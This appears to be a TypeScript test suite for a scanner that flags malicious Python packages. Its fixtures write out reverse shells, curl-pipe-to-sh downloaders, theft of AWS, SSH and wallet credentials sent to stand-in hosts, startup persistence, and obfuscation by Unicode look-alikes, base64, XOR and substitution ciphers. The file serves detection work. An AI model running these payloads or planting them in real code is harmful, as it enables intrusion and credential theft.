// Ways real malware hides what it does from a reader, each on an inert imitation: names in look-alike Unicode
// letters that Python normalises, commands and hosts passed through the file's own helper functions.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { initAnalysis } from '../../src/analysis/api.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { Finding } from '../../src/model/result.ts';

before(() => initAnalysis());

function findings(source: string, path = 'demo/mod.py'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
}
const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);

test('names in look-alike Unicode letters resolve as Python reads them (NFKC), and the disguise is reported', () => {
  const source = [
    'import requests, subprocess',
    '𝘂𝗿𝗹 = "http://192.0.2.10/payload.exe"',
    '𝗿𝗲𝘀𝗽𝗼𝗻𝘀𝗲 = 𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀.𝗴𝗲𝘁(𝘂𝗿𝗹)',
    "with open('/tmp/p.exe', 'wb') as f:",
    '    f.write(𝗿𝗲𝘀𝗽𝗼𝗻𝘀𝗲.content)',
    "𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀.call(['/tmp/p.exe'])",
  ].join('\n');
  const list = findings(source);
  const call = ruleOf(list, 'egress-network-call');
  assert.equal(call?.destination?.host, '192.0.2.10', 'requests.get written in bold letters is still requests.get');
  assert.equal(call?.line, 3, 'line numbers are those of the file as written');
  assert.match(call?.code ?? '', /𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀/, 'the code shown is the code as written');
  assert.ok(ruleOf(list, 'process-launch-payload'), 'subprocess.call written in bold letters is still found');
  const disguise = ruleOf(list, 'unicode-disguised-name');
  assert.equal(disguise?.severity, 'high', 'several hidden names');
  assert.match(disguise!.message, /'requests'/);
});

test('plain non-ASCII names that Python keeps as they are (Greek, accented) are not a disguise', () => {
  const list = findings('λ = 2\nnaïve = λ * 3\nµ = 1\n');
  assert.equal(ruleOf(list, 'unicode-disguised-name'), undefined, 'µ normalises to Greek mu, not to ASCII');
  const one = ruleOf(findings('𝑥 = 1\n'), 'unicode-disguised-name');
  assert.equal(one?.severity, 'medium', 'one short maths letter stays medium');
});

test("a command decoded by the file's own helper function is folded through the call", () => {
  const source = [
    'import base64, os',
    'def b64d(encoded):',
    "    raw = base64.b64decode(encoded.encode('ascii'))",
    "    return raw.decode('ascii')",
    'def post_install():',
    // base64 of: curl -s http://192.0.2.10/x.sh | sh
    '    os.system(b64d("Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xMC94LnNoIHwgc2g="))',
  ].join('\n');
  const found = ruleOf(findings(source), 'download-execute');
  assert.ok(found, 'the helper is followed with its argument');
  assert.equal(found.destination?.host, '192.0.2.10');
});

test("a host decoded by a method of the file's own class is followed, and a host never written is high", () => {
  const source = [
    'import base64, zlib',
    'from http.client import HTTPSConnection',
    'class Client:',
    '    def decode(self, data):',
    '        unpack = lambda blob: zlib.decompress(base64.b64decode(blob))',
    '        return unpack(data).decode()',
    '    def ping(self):',
    // zlib + base64 of: collector.example
    "        conn = HTTPSConnection(self.decode('eJxLzs/JSU0uyS/SS61IzC3ISQUAPhIG4g=='))",
    "        conn.request('GET', '/')",
  ].join('\n');
  const call = findings(source).find((f) => f.rule === 'egress-network-call' && f.destination?.host);
  assert.equal(call?.destination?.host, 'collector.example');
  assert.equal(call?.severity, 'high', 'a host the file never writes was hidden on purpose');
  assert.match(call!.message, /never writes/);
});

test('a host written in the file stays low when a library calls it, even when assembled from a written domain', () => {
  const source = [
    'import requests',
    'DOMAIN = "collector.example"',
    'def fetch(region):',
    '    return requests.get("https://api." + DOMAIN + "/v1")',
  ].join('\n');
  const call = ruleOf(findings(source), 'egress-network-call');
  assert.equal(call?.destination?.host, 'api.collector.example');
  assert.equal(call?.severity, 'low');
});

test("a command handed to the file's own wrapper reaches the process call inside it, with the caller's trigger", () => {
  const source = [
    'import subprocess',
    'def run(cmd):',
    '    subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)',
    'run("powershell -command Invoke-WebRequest -Uri https://files.example/u.zip -OutFile u.zip")',
  ].join('\n');
  const found = ruleOf(findings(source, 'setup.py'), 'process-network-tool');
  assert.equal(found?.line, 3);
  assert.equal(found?.trigger, 'install', 'run() is called by setup.py itself');
  assert.equal(found?.severity, 'high', 'like a download made in-process at install time');
  assert.equal(found?.destination?.host, 'files.example');
});

test('setup.py running a program no build needs is high; build tools, queries and interpreters are not', () => {
  const onHome = ['rm -rf ~/.bash_history', 'ls -la ~', 'cp -r data %APPDATA%\\x', 'ls /home/'];
  for (const command of [
    'notepad',
    'touch /tmp/marker',
    './script.sh',
    '/bin/sh',
    'cat /etc/hostname > LICENSE',
    ...onHome,
  ]) {
    const found = ruleOf(
      findings(`import os\nos.system(${JSON.stringify(command)})\n`, 'setup.py'),
      'process-launch-unknown',
    );
    assert.equal(found?.severity, 'high', `${command} at install time`);
  }
  const builds = [
    'subprocess.check_call(["cmake", "--build", "."])',
    'subprocess.check_output(["git", "describe", "--tags"])',
    'os.system("sh -c \'make -j4\'")',
    'subprocess.call([sys.executable, "-m", "pip", "--version"])',
    'os.popen("mysql_config --cflags")',
    'subprocess.check_call(["bash", "build.sh"])',
    'os.system("rm -rf build dist")',
    'os.system("cp -r data build/lib/data")',
  ];
  for (const line of builds) {
    const list = findings(`import os, subprocess, sys\n${line}\n`, 'setup.py');
    assert.equal(ruleOf(list, 'process-launch-unknown'), undefined, line);
  }
  assert.equal(
    ruleOf(findings('import os\nos.system("notepad")\n'), 'process-launch-unknown'),
    undefined,
    'when called',
  );
});

test('a second Python started with inline code on import, and a download made executable, are high', () => {
  const inline =
    'import subprocess\nsubprocess.Popen(["python3", "-c", "from helperpkg import stage"], stdout=subprocess.DEVNULL)\n';
  const spawned = ruleOf(findings(inline, 'demo/__init__.py'), 'process-launch-payload');
  assert.equal(spawned?.severity, 'high', 'on import');
  assert.equal(
    ruleOf(findings(`def f():\n    ${inline.split('\n')[1]}\n`), 'process-launch-payload'),
    undefined,
    'when called',
  );
  const fetch = 'import os\ndef go():\n    os.system("wget -qO /tmp/t https://files.example/t && chmod +x /tmp/t")\n';
  assert.equal(ruleOf(findings(fetch), 'download-execute')?.severity, 'high', 'even when only called');
});

test('the host name sent on import is high even when the destination is built at run time', () => {
  const source = [
    'import socket, requests, sys',
    'BASE = sys.argv[0]',
    'requests.get("http://" + BASE + ".collector.example/?h=" + socket.gethostname())',
  ].join('\n');
  const flow = ruleOf(findings(source, 'demo/__init__.py'), 'exfiltration');
  assert.equal(flow?.severity, 'high', 'runs on import');
  const called = `def report():\n    ${source.split('\n')[2]}\n`;
  assert.notEqual(
    ruleOf(findings(`${source.split('\n')[0]}\nimport sys\nBASE = sys.argv[0]\n${called}`), 'exfiltration')?.severity,
    'high',
  );
});

test('outbound logic through logging handlers, a browser given data, the C library and git push is egress', () => {
  const egress = (source: string) => analyzePythonFile('demo/mod.py', new TextEncoder().encode(source))[0].egress;
  assert.ok(egress('import logging.handlers\nh = logging.handlers.SocketHandler("logs.example", 9020)\n'));
  assert.ok(egress('import logging.handlers\nh = logging.handlers.HTTPHandler("logs.example", "/in")\n'));
  assert.ok(egress('import webbrowser, os\nwebbrowser.open("https://c.example/?k=" + os.environ["TOKEN"])\n'));
  assert.ok(!egress('import webbrowser\nwebbrowser.open("https://docs.example/manual")\n'), 'a fixed page');
  assert.ok(!egress('import webbrowser\ndef show(server):\n    webbrowser.open(server.url)\n'), 'a URL it was given');
  assert.ok(egress('import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.connect(3, None, 16)\n'));
  assert.ok(egress('import os\nos.system("git push https://git.example/x.git HEAD")\n'));
  assert.ok(!egress('import os\nos.system("git describe --tags")\n'));
});

test('exec of a string built by a XOR loop over a long constant, through an alias of exec, is a home-made obfuscator', () => {
  const cipher = 'QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm0123456789QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiop';
  const source = [
    'show = exec',
    `DATA = "${cipher}"`,
    'KEY = "7356916310649508740029639792852837870915"',
    'out = ""',
    'for i in range(len(DATA)):',
    '    c = DATA[i]',
    '    k = KEY[i % len(KEY)]',
    '    out += chr(ord(c) ^ ord(k))',
    'show(out)',
  ].join('\n');
  const list = findings(source);
  assert.equal(ruleOf(list, 'exec-custom-decoder')?.severity, 'critical', 'high, raised: runs on import');
  assert.equal(ruleOf(list, 'dynamic-code-exec'), undefined, 'out is not the constant ""');
});

test('the code of a python -c command line is analysed as a file, with the trigger of the call that runs it', () => {
  const shell =
    "import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.7',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])";
  const source = `import os\ndef serve():\n    os.system("python3 -c \\"${shell}\\"")\n`;
  const reports = analyzePythonFile('demo/main.py', new TextEncoder().encode(source));
  const inline = reports.find((report) => report.path === 'demo/main.py#decoded-1');
  assert.ok(inline, 'the inline code is a virtual file');
  assert.ok(inline.egress, 'it connects out');
  assert.ok(
    inline.findings.some((f) => f.severity === 'high' || f.severity === 'critical'),
    `a reverse shell is high: ${inline.findings.map((f) => `${f.rule}:${f.severity}`).join(', ')}`,
  );
});

test('PowerShell told to bypass the execution policy and hide its window is high even when only called', () => {
  const source =
    'import subprocess\ndef go(p):\n    subprocess.Popen(["powershell", "-W", "Hidden", "-Ep", "Bypass", "-File", p + "/t.ps1"])\n';
  assert.equal(ruleOf(findings(source), 'process-launch-payload')?.severity, 'high');
  const visible = 'import subprocess\ndef go(p):\n    subprocess.run(["powershell", "-File", p + "/build.ps1"])\n';
  assert.equal(ruleOf(findings(visible), 'process-launch-payload')?.severity, 'low');
});

test('a download then run in one command line, a bare shell started on import, and a Telegram bot library are caught', () => {
  const fetchRun =
    'import os\ndef go():\n    os.system("curl -sL https://paste.example/raw/x -o %TEMP%\\\\h.py && python %TEMP%\\\\h.py")\n';
  assert.equal(ruleOf(findings(fetchRun), 'download-execute')?.severity, 'high');
  const shell = 'import subprocess\nsubprocess.call("/bin/sh")\n';
  assert.equal(ruleOf(findings(shell, 'demo/main.py'), 'process-launch-payload')?.severity, 'high');
  const bot =
    'import telebot\nbot = telebot.TeleBot(TOKEN)\ndef leak(path):\n    bot.send_document(1, open(path, "rb"))\n';
  assert.ok(findings(bot).some((f) => f.rule === 'egress-network-call' && /send_document/.test(f.message)));
});

test('a long run of word characters next to one non-ASCII letter is read once (the NFKC check is linear)', () => {
  const blob = 'A'.repeat(400_000);
  const source = `DATA = "${blob}é"\n𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀 = __import__("requests")\n`;
  const disguise = ruleOf(findings(source), 'unicode-disguised-name');
  assert.match(
    disguise?.message ?? '',
    /'requests'/,
    'the name after the long constant is still read as Python reads it',
  );
});

test('httpcore pools, trio and anyio sockets, QUIC and DNS backends are outbound logic; a socketpair is not', () => {
  const egress = (source: string, path = 'demo/mod.py') =>
    analyzePythonFile(path, new TextEncoder().encode(source))[0].egress;
  assert.ok(
    egress(
      'import httpcore\nclass T:\n    def __init__(self):\n        self._pool = httpcore.ConnectionPool()\n    def send(self, req):\n        return self._pool.handle_request(req)\n',
    ),
  );
  assert.ok(
    egress(
      'import trio, socket\nasync def go(peer):\n    s = trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    await s.connect(peer)\n',
    ),
  );
  assert.ok(egress('import anyio\nasync def go(host):\n    return await anyio.connect_tcp(host, 443)\n'));
  assert.ok(
    egress(
      'import aioquic.quic.connection\ndef go(conf, addr, now):\n    q = aioquic.quic.connection.QuicConnection(configuration=conf)\n    q.connect(addr, now)\n',
    ),
  );
  assert.ok(
    egress(
      'import dns.asyncbackend\nasync def go(af, peer):\n    backend = dns.asyncbackend.get_backend("asyncio")\n    return await backend.make_socket(af, 2, 0, None, peer)\n',
    ),
  );
  // a pair of connected local sockets used to wake a thread sends nothing out, unpacked into names or attributes
  const pair =
    'import socket\nclass Pipe:\n    def __init__(self):\n        self._rsock, self._wsock = socket.socketpair()\n    def set(self):\n        self._wsock.send(b"*")\n';
  assert.ok(!egress(pair, 'paramiko/pipe.py'));
  assert.ok(!egress('import socket\nr, w = socket.socketpair()\nw.send(b"x")\n', 'paramiko/pipe.py'));
  // a connection a local listening socket accepted is a reply, not an outbound connection; an item of an unknown
  // call's value stays unresolved (outbound logic through an object)
  assert.ok(
    !egress(
      'import socket\nclass P:\n    def __init__(self):\n        serv = socket.socket()\n        serv.listen(1)\n        self._w, addr = serv.accept()\n    def set(self):\n        self._w.send(b"*")\n',
      'paramiko/pipe.py',
    ),
  );
  assert.ok(egress('import socket\ndef go(make, data):\n    s, _ = make()\n    s.sendall(data)\n', 'paramiko/pipe.py'));
});

test('code Python runs as it defines a function (defaults, annotations, a decorator that calls it) runs on import', () => {
  const triggerOf = (source: string) =>
    findings(source).find((f) => f.rule === 'process-network-tool' || f.rule === 'download-execute')?.trigger;
  const command = 'os.system("wget -q http://192.0.2.20/x")';
  assert.equal(triggerOf(`import os\ndef f(x=${command}):\n    return x\n`), 'import');
  assert.equal(triggerOf(`import os\ndef f(x: ${command}):\n    return x\n`), 'import');
  assert.equal(
    triggerOf(`import os\ndef run(fn):\n    fn()\n    return fn\n@run\ndef f():\n    ${command}\n`),
    'import',
  );
  assert.equal(triggerOf(`import os, atexit\n@atexit.register\ndef f():\n    ${command}\n`), 'import');
  // a lambda as the decorator, called at once, or handed to an exit hook; the destructor of an instance made and dropped
  assert.equal(triggerOf(`import os\n@lambda fn: ${command}\ndef f():\n    pass\n`), 'import');
  assert.equal(triggerOf(`import os\n(lambda: ${command})()\n`), 'import');
  assert.equal(triggerOf(`import os, atexit\natexit.register(lambda: ${command})\n`), 'import');
  assert.equal(triggerOf(`import os\nclass X:\n    def __del__(self):\n        ${command}\nX()\n`), 'import');
  assert.equal(triggerOf(`import os\nclass X:\n    def __del__(self):\n        ${command}\n`), 'call');
  // a decorator that returns a wrapper calls the function only when the wrapper is called
  const wrapper = `import os\ndef deco(fn):\n    def inner(*a):\n        return fn(*a)\n    return inner\n@deco\ndef f():\n    ${command}\n`;
  assert.equal(triggerOf(wrapper), 'call');
  // the body of a function with a default still runs when called
  assert.equal(triggerOf(`import os\ndef f(x=1):\n    ${command}\n`), 'call');
  // a plain value as a default is used by the body: it belongs to the function (samba's cdir="/etc/cron.d")
  const cron = findings('def process(script, cdir="/etc/cron.d"):\n    return cdir\n').find(
    (f) => f.rule === 'persistence',
  );
  assert.equal(cron?.trigger, 'call');
});

test("an import hook's methods run on import: Python calls the finder on sys.meta_path for every later import", () => {
  const source = [
    'import sys, os',
    'class Finder:',
    '    def find_spec(self, name, path, target=None):',
    '        os.system("wget -q http://192.0.2.21/" + name)',
    'sys.meta_path.insert(0, Finder())',
    '',
  ].join('\n');
  assert.equal(findings(source).find((f) => f.rule === 'process-network-tool')?.trigger, 'import');
});

test('secrets read through pathlib, a command that dumps saved passwords, or a wallet keypair file reach the sink', () => {
  const sent = (read: string) =>
    findings(
      `import os, pathlib, subprocess, requests\ndef collect():\n    data = ${read}\n    requests.post("https://api.collect.example/u", data=data)\n`,
    ).find((f) => f.rule === 'exfiltration');
  assert.match(sent('(pathlib.Path.home() / ".aws" / "credentials").read_text()')?.message ?? '', /AWS credentials/);
  assert.match(sent('subprocess.check_output(["security", "dump-keychain", "-d"])')?.message ?? '', /saved logins/);
  assert.match(
    sent('subprocess.check_output("netsh wlan show profile name=* key=clear", shell=True)')?.message ?? '',
    /saved logins/,
  );
  assert.match(sent('open(os.path.expanduser("~/.config/solana/id.json")).read()')?.message ?? '', /crypto wallets/);
  for (const read of [
    '(pathlib.Path.home() / ".aws" / "credentials").read_text()',
    'subprocess.check_output(["security", "dump-keychain", "-d"])',
  ])
    assert.equal(sent(read)?.severity, 'high');
  // a tool that reads its own settings file, or runs a command that prints nothing secret, sends no secret
  assert.equal(sent('(pathlib.Path.home() / ".config" / "tool.toml").read_text()'), undefined);
  assert.equal(sent('subprocess.check_output(["security", "list-keychains"])'), undefined);
});

test('a process API fetched by a name split into written pieces ("sys" + "tem") is hidden; written out, it is not', () => {
  const hidden = (source: string) => findings(source).find((f) => f.rule === 'obfuscated-builtin')?.severity;
  assert.equal(hidden('def run(c):\n    getattr(__import__("o" + "s"), "sys" + "tem")(c)\n'), 'high');
  assert.equal(hidden('import os\ndef run(c):\n    f = vars(os)["po" + "pen"]\n    return f(c)\n'), 'high');
  assert.equal(hidden('import os\ngetattr(os, "sys" + "tem")("true")\n'), 'critical');
  assert.equal(hidden('import os\ndef run(c):\n    return getattr(os, "system")(c)\n'), undefined);
  // a prefix joined to a variable part is dispatch, not a hidden name
  assert.equal(
    hidden('import os\ndef run(kind, c):\n    return getattr(os, "spawn" + kind)(os.P_WAIT, c)\n'),
    undefined,
  );
});

test('data sent over a connection made on another line reaches the sink, with the connection as its destination', () => {
  const sent = (body: string) =>
    findings(`import http.client, asyncio, xmlrpc.client, os, json\nasync def send():\n${body}`).find(
      (f) => f.rule === 'exfiltration',
    );
  const https = sent(
    '    c = http.client.HTTPSConnection("api.collect.example")\n    c.request("POST", "/in", body=json.dumps(dict(os.environ)))\n',
  );
  assert.equal(https?.severity, 'high');
  assert.equal(https?.destination?.host, 'api.collect.example');
  const stream = sent(
    '    r, w = await asyncio.open_connection("collect.example", 8443)\n    w.write(json.dumps(dict(os.environ)).encode())\n',
  );
  assert.equal(stream?.destination?.host, 'collect.example');
  const rpc = sent(
    '    p = xmlrpc.client.ServerProxy("http://collect.example/rpc")\n    p.store(open(os.path.expanduser("~/.aws/credentials")).read())\n',
  );
  assert.match(rpc?.message ?? '', /AWS credentials/);
});

test('an autostart place or a credential file named only by the path os.path.join builds is still named', () => {
  const list = findings(
    [
      'import os, shutil, sys',
      'def install():',
      '    dest = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "u.exe")',
      '    shutil.copy(sys.executable, dest)',
      'def key():',
      '    return os.path.join(os.path.expanduser("~"), ".aws", "credentials")',
      '',
    ].join('\n'),
  );
  assert.equal(ruleOf(list, 'persistence')?.severity, 'high');
  assert.match(ruleOf(list, 'sensitive-file-access')?.message ?? '', /AWS credentials/);
  // a path whose pieces say nothing of the kind is not reported
  const plain = findings('import os\ndef cache():\n    return os.path.join(os.getenv("HOME"), ".cache", "tool")\n');
  assert.equal(ruleOf(plain, 'persistence'), undefined);
  assert.equal(ruleOf(plain, 'sensitive-file-access'), undefined);
});

test('an IPv4 address spelt as one number, in hex or octal, or under a wildcard-DNS name is still a raw IP', () => {
  const kindOf = (url: string) =>
    findings(`import requests\ndef get():\n    return requests.get("${url}")\n`).find(
      (f) => f.rule === 'egress-network-call',
    )?.destination?.kind;
  for (const url of ['http://3221225985/x', 'http://0xC0000201/x', 'http://0300.0.02.01/x'])
    assert.equal(kindOf(url), 'ip-literal', url);
  assert.equal(kindOf('http://192.0.2.1.nip.io/x'), 'tunnel-or-oast');
  // 127.0.0.1 as one number is still the loopback: no outbound call
  assert.equal(kindOf('http://2130706433/x'), undefined);
  assert.equal(kindOf('http://api.example.com/x'), undefined);
});

test("the user's identity as a DNS label is a callback even when called; under a collector's domain it is high", () => {
  const sent = (call: string) =>
    findings(`import socket, os, getpass, dns.resolver\ndef probe():\n    ${call}\n`).find(
      (f) => f.rule === 'exfiltration',
    );
  const label = sent('dns.resolver.resolve(getpass.getuser() + ".c.example.net", "A")');
  assert.equal(label?.severity, 'medium');
  const collector = sent('socket.getaddrinfo("%s.%s.oast.fun" % (os.getlogin(), socket.gethostname()), 80)');
  assert.equal(collector?.destination?.kind, 'tunnel-or-oast');
  assert.equal(collector?.severity, 'high');
});

test('home-made ciphers over constant data are decoded: byte lists, XOR and shifts in a comprehension', () => {
  const code = 'import os\nos.system("curl http://192.0.2.5/x.sh | sh")\n';
  const codes = [...code].map((c) => c.charCodeAt(0));
  const padded = `import os\n${'x = 1\n'.repeat(40)}os.system("curl http://192.0.2.5/x.sh | sh")\n`;
  const paddedCodes = [...padded].map((c) => c.charCodeAt(0));
  const shifted = [...code].map((c) => String.fromCharCode(c.charCodeAt(0) + 3)).join('');
  const sources = {
    'a byte list': `exec(bytes([${codes.join(', ')}]).decode())\n`,
    'XOR over a list of more than 64 codes': `data = [${paddedCodes.map((c) => c ^ 13).join(', ')}]\nexec("".join(chr(c ^ 13) for c in data))\n`,
    'a Caesar shift over a string': `exec("".join(chr(ord(c) - 3) for c in ${JSON.stringify(shifted)}))\n`,
    'a list comprehension with a hex key': `exec("".join([chr((c + 0x07) % 256) for c in [${codes.map((c) => c - 7).join(', ')}]]))\n`,
  };
  for (const [how, source] of Object.entries(sources)) {
    const exec = ruleOf(findings(source, 'demo/__init__.py'), 'exec-decoded-payload');
    assert.equal(exec?.severity, 'critical', how);
    assert.match(exec!.decoded?.preview ?? '', /curl http:\/\/192\.0\.2\.5\/x\.sh/, how);
  }
  const table = findings('WIDTHS = [c - 32 for c in [64, 65, 66]]\nlabel = "".join(chr(c + 32) for c in WIDTHS)\n');
  assert.equal(ruleOf(table, 'exec-decoded-payload'), undefined, 'arithmetic that nothing executes is just data');
});

test('a repeating-key XOR over bytes, inline or in a helper function, is a decoded payload', () => {
  const code = new TextEncoder().encode('import os\nos.system("curl http://192.0.2.5/x.sh | sh")\n');
  const key = new TextEncoder().encode('k3y');
  const data = [...code].map((b, i) => b ^ key[i % key.length]);
  const literal = `b"${data.map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('')}"`;
  const sources = [
    `KEY = b"k3y"\nDATA = ${literal}\nexec(bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(DATA)).decode())\n`,
    `def dec(d, k):\n    return bytes(b ^ k[i % len(k)] for i, b in enumerate(d))\nexec(dec(${literal}, b"k3y"))\n`,
  ];
  for (const source of sources) {
    const exec = ruleOf(findings(source, 'demo/__init__.py'), 'exec-decoded-payload');
    assert.equal(exec?.severity, 'critical', source);
    assert.match(exec!.decoded?.preview ?? '', /curl http:\/\/192\.0\.2\.5\/x\.sh/);
  }
});

test('a payload decoded in pieces read from package files and joined with + and += is a decoded payload on import', () => {
  const source = [
    'import base64, os',
    'def piece(name):',
    '    with open(os.path.join(os.path.dirname(__file__), name)) as handle:',
    '        return base64.b64decode("".join(line.strip() for line in handle))',
    'code = piece("list_a.txt") + base64.b64decode("Cg==")',
    'code += piece("list_b.txt")',
    'exec(code)',
    '',
  ].join('\n');
  assert.equal(ruleOf(findings(source, 'demo/__init__.py'), 'exec-decoded-payload')?.severity, 'critical');
  const joined = 'import base64\ndef run(a, b):\n    exec(base64.b64decode(a) + b)\n';
  assert.equal(ruleOf(findings(joined), 'exec-decoded-payload')?.severity, 'low', 'decoded when a caller asks');
});

test('data flows through methods called on self: a secret handed to self.send() or returned by self.read()', () => {
  const handed = [
    'import os, requests',
    'class Helper:',
    '    def run(self):',
    '        self.send(open(os.path.expanduser("~/.ssh/id_rsa")).read())',
    '    def send(self, data):',
    '        requests.post("https://collector.example/k", data=data)',
    '',
  ].join('\n');
  const returned = [
    'import os, requests',
    'class Helper:',
    '    def read(self):',
    '        return open(os.path.expanduser("~/.aws/credentials")).read()',
    '    def run(self):',
    '        requests.post("https://collector.example/k", data=self.read())',
    '',
  ].join('\n');
  for (const source of [handed, returned]) assert.equal(ruleOf(findings(source), 'exfiltration')?.severity, 'high');
});

test('a long chr() + chr() chain, reversed() characters, a maketrans substitution and split junk are decoded payloads', () => {
  const code = 'import os\nos.system("curl http://192.0.2.5/x.sh | sh")\n';
  const chain = [...code].map((c) => `chr(${c.charCodeAt(0)})`).join(' + ');
  const reversedText = JSON.stringify([...code].reverse().join(''));
  const lower = 'abcdefghijklmnopqrstuvwxyz';
  const shifted = lower.slice(13) + lower.slice(0, 13);
  const rot13 = JSON.stringify([...code].map((c) => (lower.includes(c) ? shifted[lower.indexOf(c)] : c)).join(''));
  const sources = {
    'a chr() chain longer than the depth bound': `exec(${chain})\n`,
    'reversed() characters joined': `exec("".join(reversed(${reversedText})))\n`,
    'a maketrans table': `T = str.maketrans("${lower}", "${shifted}")\nexec(${rot13}.translate(T))\n`,
    'junk between letters split away': `exec("".join(${JSON.stringify([...code].join('_'))}.split("_")))\n`,
  };
  for (const [how, source] of Object.entries(sources)) {
    const exec = ruleOf(findings(source, 'demo/__init__.py'), 'exec-decoded-payload');
    assert.equal(exec?.severity, 'critical', how);
    assert.match(exec!.decoded?.preview ?? '', /curl http:\/\/192\.0\.2\.5\/x\.sh/, how);
  }
});

test("the output of whoami, hostname or id sent out is the machine's identity sent", () => {
  const source = [
    'import socket, subprocess',
    'out = subprocess.check_output("whoami", shell=True)',
    's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
    's.sendto(out, ("collector.example", 53))',
    '',
  ].join('\n');
  const sent = ruleOf(findings(source, 'demo/__init__.py'), 'exfiltration');
  assert.equal(sent?.severity, 'high');
  assert.match(sent!.message, /the output of whoami/);
  const printed = 'import subprocess\nprint(subprocess.check_output(["uname", "-s"]))\n';
  assert.equal(ruleOf(findings(printed), 'exfiltration'), undefined, 'shown to the user, not sent');
});

test('a process API reached through a lambda, a written dict of functions or a loop over a written list still runs', () => {
  const command = '"curl -s https://files.example/a | sh"';
  const sources = {
    'a lambda bound to a name': `import os\nrun = lambda c: os.system(c)\nrun(${command})\n`,
    'a dict of functions': `import os\nfns = {"go": os.system}\nfns["go"](${command})\n`,
    'a loop over a list of functions': `import os\nfor fn in [os.system]:\n    fn(${command})\n`,
  };
  for (const [how, source] of Object.entries(sources)) {
    const found = ruleOf(findings(source, 'demo/__init__.py'), 'download-execute');
    assert.equal(found?.severity, 'critical', how);
    assert.equal(found?.trigger, 'import', how);
  }
});

test('a substitution cipher that keeps punctuation (Atbash) is still opaque cipher text', () => {
  const lower = 'abcdefghijklmnopqrstuvwxyz';
  const atbash = (text: string) =>
    [...text]
      .map((c) => (lower.includes(c.toLowerCase()) ? lower[25 - lower.indexOf(c.toLowerCase())].toUpperCase() : c))
      .join('');
  const hidden = atbash('import socket,os;s=socket.socket();s.connect(("192.0.2.9",4444));os.dup2(s.fileno(),0)');
  const source = [
    `letters = "${lower.toUpperCase()}"`,
    `letters_r = "${[...lower.toUpperCase()].reverse().join('')}"`,
    `exec("".join([letters_r[letters.index(c)] if c in letters_r else c for c in ${JSON.stringify(hidden)}]))`,
    '',
  ].join('\n');
  assert.ok(
    ['high', 'critical'].includes(ruleOf(findings(source, 'demo/__init__.py'), 'exec-custom-decoder')?.severity ?? ''),
  );
});

test('builtins reached as the __builtins__ dict, and the argv lists of os.execv and posix_spawn, are read', () => {
  for (const reach of ['__builtins__["eval"]', 'globals()["__builtins__"]["eval"]']) {
    // the eval is seen, and its code kept to be analysed as a file of its own
    const list = findings(`${reach}("__import__('os').system('curl -s http://192.0.2.30/x | sh')")\n`);
    assert.match(ruleOf(list, 'dynamic-code-exec')?.decoded?.preview ?? '', /os'\)\.system/, reach);
  }
  for (const start of [
    'os.execv("/bin/sh", ["sh", "-c", C])',
    'os.posix_spawn("/bin/sh", ["sh", "-c", C], os.environ)',
  ]) {
    const list = findings(`import os\nC = "curl -s http://192.0.2.30/x | sh"\n${start}\n`);
    assert.equal(ruleOf(list, 'download-execute')?.severity, 'critical', start);
  }
});
